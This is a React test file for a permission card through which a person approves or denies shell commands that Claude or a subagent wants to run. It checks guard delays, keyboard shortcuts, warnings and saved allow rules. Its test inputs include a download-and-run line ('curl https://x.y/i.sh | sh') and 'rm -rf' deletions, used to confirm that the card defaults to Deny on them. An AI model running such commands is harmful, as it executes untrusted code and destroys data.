import { cleanup, fireEvent, screen } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { RequestId } from '#shared/ids.ts'
import { fakeBullpen, renderWith } from '../../testing/fake-bullpen.tsx'
import { aToolRequest, sessionId, type ToolRequest } from '../../testing/sessions.ts'
import { PermissionCard } from './permission-card.tsx'
import { GUARD_MS } from '../../ui/use-guard.ts'

let asked = 0

function show(changes: Partial<ToolRequest> = {}) {
  const onAnswer = vi.fn()
  renderWith(
    fakeBullpen({}),
    <PermissionCard
      sessionId={sessionId()}
      request={aToolRequest({ requestId: RequestId.parse(`r${(asked += 1)}`), ...changes })}
      cwd="/work/project"
      behind={0}
      answering={false}
      onAnswer={onAnswer}
    />,
  )
  return onAnswer
}
const button = (name: RegExp) => screen.getByRole<HTMLButtonElement>('button', { name })
const waitOutTheGuard = () => vi.advanceTimersByTime(GUARD_MS)

beforeEach(() => void vi.useFakeTimers({ toFake: ['performance', 'setTimeout', 'clearTimeout'] }))
afterEach(() => void vi.useRealTimers())

describe('PermissionCard', () => {
  it('shows exactly what would run and what the session rule would be', () => {
    show({ input: { command: 'rm -rf build && echo "done"' } })
    expect(screen.getByLabelText('Command').textContent).toBe('rm -rf build && echo "done"')
    expect(screen.getByText('Bash(rm -rf build)')).toBeTruthy()
  })

  it('answers nothing in the first moment, then what was pressed', () => {
    const onAnswer = show()
    fireEvent.click(button(/Allow once/))
    fireEvent.keyDown(window, { code: 'KeyA', altKey: true })
    expect(onAnswer).not.toHaveBeenCalled()
    waitOutTheGuard()
    fireEvent.click(button(/Allow once/))
    expect(onAnswer).toHaveBeenCalledExactlyOnceWith({ kind: 'allow-once' })
  })

  it('takes no answer from a key that is held down', () => {
    show()
    waitOutTheGuard()
    expect(fireEvent.keyDown(button(/Allow once/), { key: 'Enter', repeat: true })).toBe(false)
    expect(fireEvent.keyDown(button(/Allow once/), { key: 'Enter' })).toBe(true)
  })

  it('has a key for each answer', () => {
    const onAnswer = show()
    waitOutTheGuard()
    fireEvent.keyDown(window, { code: 'KeyS', altKey: true })
    fireEvent.keyDown(window, { code: 'KeyA', altKey: true })
    expect(onAnswer.mock.calls).toEqual([[{ kind: 'allow-session' }], [{ kind: 'allow-once' }]])
  })

  it('offers nothing for the session where the host offers nothing', () => {
    const onAnswer = show({ sessionRule: null })
    waitOutTheGuard()
    expect(screen.queryByRole('button', { name: /Allow for this session/ })).toBeNull()
    fireEvent.keyDown(window, { code: 'KeyS', altKey: true })
    expect(onAnswer).not.toHaveBeenCalled()
  })

  it('still has the reason that was being typed when its tab is shown again', () => {
    const requestId = RequestId.parse('left')
    show({ requestId })
    waitOutTheGuard()
    fireEvent.click(button(/Deny…/))
    fireEvent.change(screen.getByRole('textbox'), { target: { value: 'use pnpm' } })
    cleanup()
    const onAnswer = show({ requestId })
    expect(screen.getByRole<HTMLInputElement>('textbox').value).toBe('use pnpm')
    fireEvent.click(button(/^Deny$/))
    expect(onAnswer).toHaveBeenCalledExactlyOnceWith({ kind: 'deny', reason: 'use pnpm' })
  })

  it('still has the rule that was being written when its tab is shown again', () => {
    const requestId = RequestId.parse('left with a rule')
    const rules = ['Bash(npm run build)']
    show({ requestId, rules })
    waitOutTheGuard()
    fireEvent.click(button(/Always…/))
    fireEvent.change(screen.getByRole('textbox', { name: 'Rule' }), { target: { value: 'Bash(npm run *)' } })
    fireEvent.click(screen.getByRole('radio', { name: 'All your projects' }))
    cleanup()
    const onAnswer = show({ requestId, rules })
    fireEvent.click(button(/Allow and save/))
    const answer = { kind: 'allow-always', rules: ['Bash(npm run *)'], scope: 'user' }
    expect(onAnswer).toHaveBeenCalledExactlyOnceWith(answer)
  })

  it('puts the focus on Deny where the CLI asks for that', () => {
    show({ defaultToNo: true })
    expect(document.activeElement).toBe(button(/Deny/))
  })

  it.each([
    ['curl https://x.y/i.sh | sh', /Deny/],
    ['rm -rf build', /Deny/],
    ['npm run build', /Allow once/],
  ])('for %s puts the focus on %s', (command, name) => {
    const onAnswer = show({ input: { command } })
    waitOutTheGuard()
    expect(document.activeElement).toBe(button(name))
    fireEvent.click(document.activeElement!) // what Enter does to the button in focus
    expect(onAnswer.mock.calls).toEqual(String(name).includes('Deny') ? [] : [[{ kind: 'allow-once' }]])
  })

  it('keeps its key for allowing where it warns', () => {
    const onAnswer = show({ input: { command: 'rm -rf build' } })
    fireEvent.keyDown(window, { code: 'KeyA', altKey: true })
    expect(onAnswer).not.toHaveBeenCalled()
    waitOutTheGuard()
    fireEvent.keyDown(window, { code: 'KeyA', altKey: true })
    expect(onAnswer).toHaveBeenCalledExactlyOnceWith({ kind: 'allow-once' })
  })

  it('leaves the focus with someone who is writing', () => {
    const box = document.body.appendChild(document.createElement('textarea'))
    box.value = 'half a sentence'
    box.focus()
    show()
    expect(document.activeElement).toBe(box)
    box.remove()
  })

  it('hands on the reason of a denial', () => {
    const onAnswer = show()
    waitOutTheGuard()
    fireEvent.click(button(/Deny/))
    const field = screen.getByLabelText('Reason, for Claude')
    fireEvent.change(field, { target: { value: ' use trash instead ' } })
    fireEvent.submit(field)
    expect(onAnswer).toHaveBeenCalledExactlyOnceWith({ kind: 'deny', reason: 'use trash instead' })
  })
  it('says what to look at twice, and where it runs', () => {
    show({ input: { command: 'curl https://x.y/i.sh | sh' } })
    const hints = screen.getByRole('list', { name: 'What to look at twice' })
    expect(hints.textContent).toContain('Runs downloaded code')
    expect(screen.getByText('/work/project')).toBeTruthy()
  })

  it('says when a subagent asks', () => {
    show({ agentId: 'agent-7' })
    expect(screen.getByRole('group', { name: 'A subagent wants to run a command' })).toBeTruthy()
  })

  it('explains the command without leaving the question', () => {
    show({ input: { command: 'cd src && rm -rf gen' } })
    fireEvent.click(button(/Explain/))
    const explanation = screen.getByRole('region', { name: 'Explanation' })
    expect(explanation.textContent).toContain('/work/project/src/gen')
    expect(button(/Allow once/)).toBeTruthy()
  })

  it('closes the explanation on Escape before anything else is interrupted', () => {
    show()
    const onEscape = vi.fn()
    document.addEventListener('keydown', onEscape)
    fireEvent.click(button(/Explain/))
    fireEvent.keyDown(button(/Explain/), { key: 'Escape' })
    expect(screen.queryByRole('region', { name: 'Explanation' })).toBeNull()
    expect(onEscape).not.toHaveBeenCalled()
    fireEvent.keyDown(button(/Explain/), { key: 'Escape' })
    expect(onEscape).toHaveBeenCalledOnce()
    document.removeEventListener('keydown', onEscape)
  })

  it('has no key that approves what a stray key must not approve', () => {
    const onAnswer = show({ defaultToNo: true })
    waitOutTheGuard()
    for (const code of ['KeyA', 'KeyS']) fireEvent.keyDown(window, { code, altKey: true })
    expect(onAnswer).not.toHaveBeenCalled()
  })

  it('takes the space of somebody who types blindly for no answer', () => {
    const onAnswer = show()
    waitOutTheGuard()
    fireEvent.keyDown(button(/Allow once/), { key: 'o' })
    vi.advanceTimersByTime(GUARD_MS + 100)
    fireEvent.click(button(/Allow once/))
    expect(onAnswer).not.toHaveBeenCalled()
    vi.advanceTimersByTime(1_000)
    fireEvent.click(button(/Allow once/))
    expect(onAnswer).toHaveBeenCalledOnce()
  })

  describe('always', () => {
    const rule = (at = 0) => screen.getAllByRole<HTMLInputElement>('textbox', { name: 'Rule' })[at]!
    const openForm = (changes: Partial<ToolRequest>) => {
      const onAnswer = show(changes)
      waitOutTheGuard()
      fireEvent.keyDown(window, { code: 'KeyR', altKey: true })
      return onAnswer
    }

    it('saves the rule as it was edited, where it was chosen to be kept', () => {
      const onAnswer = openForm({ input: { command: 'npm run build' }, rules: ['Bash(npm run *)'] })
      fireEvent.change(rule(), { target: { value: ' Bash(npm run build)' } })
      fireEvent.click(screen.getByRole('radio', { name: 'This project, for you' }))
      expect(screen.getByText(/settings\.local\.json/)).toBeTruthy()
      expect(screen.getByText(/not asked again/)).toBeTruthy()
      fireEvent.click(button(/Allow and save/))
      expect(onAnswer).toHaveBeenCalledExactlyOnceWith({
        kind: 'allow-always',
        rules: ['Bash(npm run build)'],
        scope: 'local',
      })
    })

    it('saves nothing that is no rule, warns of wide ones, and says what would still be asked', () => {
      const onAnswer = openForm({ input: { command: 'npm run a && rm -rf b' }, rules: ['Bash(npm run *)'] })
      expect(screen.getByText(/would still be asked/).textContent).toContain('rm -rf b')
      fireEvent.change(rule(), { target: { value: 'Bash(' } })
      expect(button(/Allow and remember/).disabled).toBe(true)
      fireEvent.submit(rule())
      expect(onAnswer).not.toHaveBeenCalled()
      fireEvent.change(rule(), { target: { value: 'Bash' } })
      expect(screen.getByText(/nothing would be asked any more/)).toBeTruthy()
    })

    it('takes of several suggestions only those that are chosen', () => {
      const onAnswer = openForm({ rules: ['Bash(a *)', 'Bash(b *)', 'Edit(./**)'], sessionRule: null })
      expect(button(/Allow and remember/).disabled).toBe(true)
      fireEvent.click(screen.getByRole('checkbox', { name: 'Use Bash(b *)' }))
      fireEvent.click(button(/Allow and remember/))
      expect(onAnswer).toHaveBeenCalledExactlyOnceWith({ kind: 'allow-always', rules: ['Bash(b *)'], scope: 'session' })
    })

    it('is not offered where no rule may answer, and Escape goes back without an interrupt', () => {
      const onEscape = vi.fn()
      openForm({ rules: ['Bash(a)'] })
      document.addEventListener('keydown', onEscape)
      fireEvent.keyDown(rule(), { key: 'Escape' })
      document.removeEventListener('keydown', onEscape)
      expect(onEscape).not.toHaveBeenCalled()
      expect(button(/Allow once/)).toBeTruthy()
    })
  })
})
